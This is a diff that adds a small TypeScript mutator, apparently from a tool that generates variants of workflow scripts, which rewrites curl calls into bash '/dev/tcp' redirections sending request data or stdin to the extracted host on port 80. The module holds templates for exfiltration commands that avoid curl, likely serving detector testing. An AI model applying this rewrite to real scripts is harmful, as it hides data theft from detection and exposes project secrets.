@@ -1,0 +1,15 @@
+import { replaceCurl } from '../curl-call.ts'
+import { HOST } from '../host-words.ts'
+import { editScripts } from '../workflow-edit.ts'
+import type { Mutate } from './mutator.ts'
+
+/** No program at all: bash itself opens the connection. */
+export const curlToSocket: Mutate = (text) =>
+  editScripts(text, (script) =>
+    replaceCurl(script, ({ url, body, headers }) => {
+      const host = url.match(HOST)?.[0]
+      const data = body ?? headers.join("'&'")
+      if (host === undefined || data === '') return undefined
+      return data === 'stdin' ? `cat > /dev/tcp/${host}/80` : `printf '%s' ${data} > /dev/tcp/${host}/80`
+    }),
+  )
